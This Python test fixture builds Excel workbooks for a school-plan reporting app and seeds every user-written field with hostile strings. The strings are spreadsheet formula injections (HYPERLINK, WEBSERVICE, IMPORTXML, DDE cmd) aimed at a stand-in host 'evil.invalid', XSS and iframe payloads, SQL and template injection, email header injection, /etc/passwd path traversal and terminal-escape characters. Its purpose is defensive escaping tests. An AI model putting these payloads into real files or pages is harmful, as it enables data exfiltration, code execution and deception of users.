"""One list of hostile texts, put into every text of a plan, its reports and what people write; used by all tests of it."""

from __future__ import annotations

import io
from datetime import date, datetime
from typing import Any

import xlsxwriter

from tests.workbooks import PLAN, STATUS, Cells

OUTSIDE = "evil.invalid"
"""The host that no answer may lead to and no page may ask."""

PAYLOADS = (
    f'=HYPERLINK("http://{OUTSIDE}/f","open")',
    f"+cmd|'/C calc'!A0 {OUTSIDE}",
    f'-2+3+WEBSERVICE("http://{OUTSIDE}/w")',
    f'@SUM(1)*IMPORTXML("http://{OUTSIDE}/x","//a")',
    f"<script>window.pwned=1</script><img src=http://{OUTSIDE}/i onerror=window.pwned=2>",
    f'"><svg/onload=window.pwned=3><a href="javascript:window.pwned=4">x</a><iframe src="//{OUTSIDE}/"></iframe>',
    f"[here](http://{OUTSIDE}/md) ![p](http://{OUTSIDE}/p.png) **bold** :material/home: :red[red] $x^2$ `code`",
    "'); DROP TABLE act; -- \" ; $$ {{7*7}} ${7*7} %s {0} {name}",
    f'#import "x.typ" #link("http://{OUTSIDE}/t") #eval("1") $ x $ @ref <label> \\ _a_ *b* // c',
    f"line one\r\nBcc: all@{OUTSIDE}\r\n\r\nbody END:VEVENT BEGIN:VEVENT",
    '../../../etc/passwd\\..\\x|a:b*?"<>',
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x08 \x0b bell \u202egnp.exe \ufeff \u2028 \ufffe end",
    "\t\t=1+1\t\ttabs",
)


class Hostile:
    """Gives the texts of the list, one after the other, each before the plain text that it is put to."""

    def __init__(self) -> None:
        self._next = 0

    def __call__(self, text: str = "") -> str:
        said = f"{PAYLOADS[self._next % len(PAYLOADS)]} {text}".rstrip(" ")
        self._next += 1
        return said


TEXTS = {"name", "leader", "text", "if", "then", "and", "indicator", "contact"}
"""The columns of the plan workbook that hold what people write."""


def plan(hostile: Hostile) -> Cells:
    """The plan of the tests with a hostile text before each of its texts, and more rows so that each text meets many."""
    cells: Cells = {name: [list(row) for row in rows] for name, rows in PLAN.items()}
    cells["Actions"] += [
        [f"1.1.Y1-1.{n}", "1.1.Y1-1", f"More work {n}", "U1", date(2026, 10, 20)] for n in range(4, 4 + len(PAYLOADS))
    ]
    heads, *units = cells["Units"]
    mail = [[*row, f"Leader of {row[0]}", f"{row[0].lower()}@schools.example"] for row in units]
    cells["Units"] = [[*heads, "leader", "email"], *mail]
    for name, (heads, *rows) in cells.items():
        for row in rows:
            for at, head in enumerate(heads):
                if (head in TEXTS or (name == "Organization" and row[0] == "name" and at == 1)) and row[at]:
                    row[at] = hostile(row[at])
    return cells


def report(hostile: Hostile, unit: str = "U1", month: str = "2026-10") -> Cells:
    """A month's report with a hostile text in each field that people write."""
    codes = ["1.1.Y1-1.1", "1.1.Y1-1.3", *(f"1.1.Y1-1.{n}" for n in range(4, 4 + len(PAYLOADS)))]
    rows = [
        [code, "Behind", "", date(2026, 12, 20), hostile("note"), "re-date", hostile("detail"), hostile("evidence")]
        for code in codes
    ]
    said = [[key, hostile(key)] for key in ("met_how", "attendees", "accomplishments", "people_and_resources")]
    return {
        "Report": [["key", "value"], ["unit", unit], ["month", month], *said],
        "Status": [[*STATUS, "Evidence"], *rows],
        "Milestones": [["Milestone", "Expected finish", "Note"], ["1.1.Y1-1", date(2026, 12, 1), hostile("note")]],
        "Measures": [["Measure", "Year", "Value", "Note"], ["G3", "2025-26", 52, hostile("note")]],
        "Recommendations": [
            ["Recommendation", "About", "Answer"],
            *([hostile("do it"), "1.1.Y1-1", ""] for _ in PAYLOADS),
        ],
    }


def tracker(hostile: Hostile) -> Cells:
    """An agency's own tracker, hostile in its title, headings and cells."""
    rows = [[hostile(f"Task {n}"), "In Progress", date(2026, 10, 1 + n), hostile("Rivera")] for n in range(14)]
    return {
        "Tracker": [[hostile("FY27 plan")], [], ["Action step", "Status", "Target", "Lead", hostile("Remarks")], *rows]
    }


def book(cells: Cells) -> bytes:
    """Write sheets of rows, every text as text."""
    out = io.BytesIO()
    literal = {"in_memory": True, "strings_to_formulas": False, "strings_to_urls": False}
    with xlsxwriter.Workbook(out, literal) as made:
        day = made.add_format({"num_format": "yyyy-mm-dd"})
        for name, rows in cells.items():
            sheet = made.add_worksheet(name)
            for y, row in enumerate(rows):
                for x, value in enumerate(row):
                    _write(sheet, y, x, value, day)
    return out.getvalue()


def _write(sheet: Any, y: int, x: int, value: Any, day: Any) -> None:
    if isinstance(value, date):
        sheet.write_datetime(y, x, datetime(value.year, value.month, value.day), day)
    elif isinstance(value, str) and value:
        sheet.write_string(y, x, value)
    elif value != "":
        sheet.write(y, x, value)
